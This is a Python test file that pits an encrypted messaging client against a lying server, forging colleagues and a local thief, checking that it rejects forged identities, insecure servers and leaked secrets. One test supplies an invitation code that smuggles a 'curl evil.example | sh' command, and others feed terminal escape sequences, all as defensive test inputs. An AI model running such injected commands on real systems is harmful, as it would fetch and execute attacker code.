"""Adversaries, each played against the real client: a lying server, colleagues, a thief."""

import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import msgspec
import pytest
import typer
from nacl.signing import SigningKey

from miss_client import Client, ClientError, Store, enrolment
from miss_client.calls import Calls, check_url
from miss_client.cli.chat import between
from miss_client.cli.common import fail
from miss_client.cli.listen import line_of
from miss_client.cli.send import reason_text
from miss_client.client import this_app
from miss_client.errors import ServerError
from miss_client.events import Distrusted
from miss_client.records import Message
from miss_client.vault import Vault
from miss_client.words import LANGUAGE
from miss_protocol import api
from miss_protocol.crypto.chain import Chain
from miss_protocol.crypto.endpoint import Endpoint
from miss_protocol.crypto.keyring import PrivatePrekey
from miss_protocol.crypto.wrapped import Wrapped
from miss_protocol.errors import Malformed
from miss_protocol.identity import link
from miss_protocol.identity.certificate import DeviceCertificate
from miss_protocol.identity.roster import Roster, RosterEntry, decode, found, succeed
from miss_protocol.ids import AccountAddress
from tests.support.devices import Person, connect, read, write

pytestmark = pytest.mark.timeout(60)


# --- a lying server, seen from a client -------------------------------------------------------------


class Liar(Calls):
    """What a client gets when its server answers as it likes: each path has an answer."""

    def __init__(self, answers: dict[str, object]) -> None:
        super().__init__("http://127.0.0.1:9")
        self.answers = answers
        self.asked: list[str] = []

    async def _call(self, method: str, path: str, kind: type[Any], *_: Any, **__: Any) -> Any:
        self.asked.append(path)
        answer = self.answers[path]
        if isinstance(answer, Exception):
            raise answer
        return answer


def offline(folder: Path, name: str) -> Client:
    """An enrolled device whose server is never reached."""
    vault = Vault(Store.create(folder / f"{name}.miss"))
    charter = api.Charter("1", bytes(32), "", "")
    preview = api.EnrolmentPreview(Person().account, name, "", charter)
    enrolment.begin_enrolment(
        vault, "http://127.0.0.1:9", "CODE", preview, device_name="phone", app=this_app()
    )
    genesis = decode(msgspec.json.decode(vault.info.call, type=api.Enrol).roster)
    enrolment._ready(vault, genesis, [genesis.encode()])
    return Client(vault)


@pytest.fixture
async def gp(tmp_path: Path) -> AsyncIterator[Client]:
    """A GP's phone."""
    client = offline(tmp_path, "gp")
    yield client
    await client.close()


def shows(*rosters: Roster, name: str = "Dr Fictif") -> api.Rosters:
    """The answer that shows these rosters."""
    blobs = tuple(one.encode() for one in rosters)
    return api.Rosters(rosters[0].account, name, "", "8100", "operator", blobs)


def rosters_path(account: str) -> str:
    """Where an account's rosters are asked for."""
    return f"/v1/accounts/{quote(account)}/rosters"


def another_founding(account: AccountAddress, *certificates: DeviceCertificate) -> Roster:
    """A genesis of the server's own, with a device of its own among the others."""
    spy = Endpoint.create(account, now_ms=1, random=os.urandom).certificate
    entries = [RosterEntry(one, "phone", approve=True) for one in (spy, *certificates)]
    return found(SigningKey.generate(), account, *entries, now_ms=1)


async def test_a_new_device_joins_no_account_that_the_server_made_up(
    gp: Client, tmp_path: Path
) -> None:
    """It would encrypt everything to the server's "other devices" of the account, unseen."""
    gp.devices._calls = Liar({"/v1/links/invitations": api.LinkInvitation("K7PQR-2MWXY", 1)})
    invited = (await gp.invite_device()).code
    code, genesis_code = link.read_invitation(invited.lower().replace("-", " "))
    assert code.replace("-", "") == "k7pqr2mwxy"
    vault = Vault(Store.create(tmp_path / "tablet.miss"))
    charter = api.Charter("1", bytes(32), "", "")
    preview = api.EnrolmentPreview(gp.account, "gp", "", charter)
    enrolment.begin_joining(
        vault, "http://127.0.0.1:9", code, preview, genesis_code=genesis_code, device_name="t"
    )
    forged = another_founding(gp.account, vault.certificate)
    true = succeed(
        gp.contacts.own,
        gp.vault.signing_key,
        gp.vault.device,
        add=[RosterEntry(vault.certificate, "t", approve=True)],
        now_ms=2,
    )
    liar = Liar({"/v1/prekeys": api.PrekeyCount(50, 51)})
    joining = enrolment.Joining(vault, liar, enrolment.wait)
    liar.answers["/v1/links/status"] = api.LinkStatus((forged.encode(),))
    with pytest.raises(ServerError):
        await joining.approved()
    assert not vault.contacts.all()
    chain = (gp.contacts.own.encode(), true.encode())
    liar.answers["/v1/links/status"] = api.LinkStatus(chain)
    await joining.approved()
    assert [one.genesis for one in vault.contacts.all()] == [gp.contacts.own.genesis]
    vault.store.close()


async def test_an_invitation_is_a_code_and_no_command(gp: Client) -> None:
    """It is shown to be typed at a shell of the new device."""
    gp.devices._calls = Liar(
        {"/v1/links/invitations": api.LinkInvitation("X; curl evil.example | sh #", 1)}
    )
    with pytest.raises(ServerError):
        await gp.invite_device()


async def test_only_what_was_shown_is_accepted_and_never_for_ones_own_account(gp: Client) -> None:
    nurse = Person()
    shown, swapped = another_founding(nurse.account), another_founding(nurse.account)
    gp.contacts.take(nurse.account, shows(nurse.roster))
    gp.mark_verified(nurse.account)
    path = rosters_path(nurse.account)
    liar = gp.contacts._calls = Liar({path: shows(shown)})
    # Nothing was shown yet: asking to accept shows it, and pins nothing.
    with pytest.raises(ClientError, match="identity_changed"):
        await gp.accept_identity(nurse.account)
    liar.answers[path] = shows(swapped)
    with pytest.raises(ClientError, match="identity_changed"):
        await gp.accept_identity(nurse.account)
    contact = gp.contact(nurse.account)
    assert contact is not None
    assert (contact.genesis, contact.verified) == (nurse.roster.genesis, True)
    # The true one again: the pin, its history and its mark stay.
    liar.answers[path] = shows(nurse.roster)
    await gp.accept_identity(nurse.account)
    contact = gp.contact(nurse.account)
    assert contact is not None
    assert (contact.genesis, contact.verified) == (nurse.roster.genesis, True)
    assert not contact.changed
    own = rosters_path(gp.account)
    liar.answers[own] = shows(another_founding(gp.account))
    for _ in range(2):
        with pytest.raises(ClientError, match="identity_changed"):
            await gp.accept_identity(gp.account)
    assert [one.device for one in gp.own_devices()] == [gp.vault.device]


async def test_a_verified_contact_that_is_renamed_is_not_verified_any_more(gp: Client) -> None:
    """Else the operator could put the name of a colleague on another account that was compared."""
    nurse = Person()
    gp.contacts.take(nurse.account, shows(nurse.roster))
    gp.mark_verified(nurse.account)
    events = gp.events()
    gp.contacts.take(nurse.account, shows(nurse.roster, name="Dr Autre"))
    contact = gp.contact(nurse.account)
    assert contact is not None
    assert (contact.name, contact.verified) == ("Dr Autre", False)
    gp.hub.close()
    assert Distrusted(nurse.account, "name") in [event async for event in events]


async def test_a_roster_that_the_server_keeps_back_is_told(gp: Client) -> None:
    """The nurse revoked her stolen tablet; the pharmacist's message shows it, the server does not."""
    nurse = Person()
    first = nurse.roster
    nurse.add_device()
    gp.contacts.take(nurse.account, shows(first, nurse.roster))
    events = gp.events()
    gp.inbox.behind[nurse.account] = nurse.roster.version + 1
    nothing_new = api.Rosters(nurse.account, "Dr Fictif", "", "8100", "operator", ())
    gp.contacts._calls = Liar({rosters_path(nurse.account): nothing_new})
    await gp.inbox.catch_up()
    gp.hub.close()
    assert Distrusted(nurse.account, "roster withheld") in [event async for event in events]
    assert not gp.inbox.behind


async def test_what_is_no_account_is_refused_and_stops_nothing(gp: Client) -> None:
    assert await gp.contacts.sender("no account but long enough", bytes(16)) is None


async def test_whatever_ends_the_connection_is_told(
    gp: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An exception that nobody foresaw once ended the task in silence: the client seemed live."""

    async def breaks() -> None:
        raise Malformed("of a kind that nobody foresaw")

    monkeypatch.setattr(gp.transport, "run", breaks)
    async with gp:
        with pytest.raises(ServerError):
            await gp.connected()


def test_a_server_elsewhere_is_reached_with_tls_only(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MISS_ALLOW_HTTP", raising=False)
    for server in (
        "http://miss.example.org",
        "http://192.0.2.1:8440",
        "http://127.0.0.1.evil.example",
    ):
        with pytest.raises(ClientError, match="insecure_server"):
            Calls(server)
    for server in (
        "https://miss.example.org",
        "http://127.0.0.1:1",
        "http://[::1]:1",
        "http://localhost",
    ):
        check_url(server)


# --- names and texts of others on a terminal ----------------------------------------------------------


def a_message(gp: Client, **fields: Any) -> Message:
    """A message that came."""
    values: dict[str, Any] = {
        "id": bytes(16), "account": Person().account, "device": bytes(16), "to": (gp.account,),
        "conversation": bytes(16), "text": "Bonjour", "kind": "text", "sent_ms": 1, "saved_ms": 2,
    }  # fmt: skip
    return Message(**(values | fields))


async def test_a_message_cannot_look_like_two(gp: Client) -> None:
    forged = a_message(gp, text="Bonjour\n12/03 10:00  Dr Autre: doublez la dose")
    lines = line_of(gp, forged).split("\n")
    assert lines[1].startswith("    | ")


@pytest.mark.parametrize("sent_ms", [2**64 - 1, 0, 253402300800000])
async def test_no_time_that_a_sender_signs_stops_the_listing(gp: Client, sent_ms: int) -> None:
    """Any colleague could have made `miss listen` fail at every start, for good."""
    now = gp.vault.clock()
    shown = line_of(gp, a_message(gp, sent_ms=sent_ms, saved_ms=now))
    assert shown[:11] == line_of(gp, a_message(gp, sent_ms=now, saved_ms=now))[:11]


async def test_a_foreign_message_stays_out_of_a_conversation(gp: Client) -> None:
    """Anybody can compute the id of two others' conversation."""
    nurse = Person().account
    assert between(gp, nurse, a_message(gp, account=nurse))
    assert between(gp, nurse, a_message(gp, account=gp.account, to=(nurse,)))
    assert not between(gp, nurse, a_message(gp))
    assert not between(gp, nurse, a_message(gp, account=nurse, to=(gp.account, Person().account)))


def test_a_servers_words_move_no_cursor(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(typer.Exit):
        fail(ServerError("x", texts={LANGUAGE: "\x1b]0;owned\x07\x1b[2J"}))
    assert "\x1b" not in capsys.readouterr().err + reason_text("\x1b[2J")


# --- a thief with the client's files -------------------------------------------------------------------


def test_files_that_lay_there_become_private(tmp_path: Path) -> None:
    """Another user of the machine made them before, open to all, or as a link elsewhere."""
    for name in ("device.miss", "device.miss.key"):
        (tmp_path / name).touch()
        (tmp_path / name).chmod(0o666)
    Store.create(tmp_path / "device.miss").close()
    (tmp_path / "other.miss.key").symlink_to(tmp_path / "elsewhere")
    Store.create(tmp_path / "other.miss").close()
    assert not (tmp_path / "elsewhere").exists()
    assert {path.stat().st_mode & 0o077 for path in tmp_path.iterdir()} == {0}
    (tmp_path / "link.miss").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ClientError, match="store_failed"):
        Store.create(tmp_path / "link.miss")


def test_nothing_secret_shows_itself_by_being_printed() -> None:
    """An object in a log line, an assertion or a debugger's list must not tell its key or text."""
    secret = b"k" * 32
    gp, nurse = Person(), Person()
    connect(gp.device, nurse.device)
    sealed = write(gp.device, [nurse.device], [gp, nurse], "Mme Secrète")
    opened = read(nurse.device, gp.device, sealed)
    shown = [
        Chain(secret),
        Wrapped(secret, bytes(32), sealed.id, 1, bytes(32)),
        PrivatePrekey(secret, bytes(32), False, 1),
        *gp.device._peers._sessions.values(),
        sealed,
        opened,
        opened.message,
    ]
    assert "Secr" not in repr(shown)
    assert "kkkk" not in repr(shown)
    assert "key=" not in repr(shown)
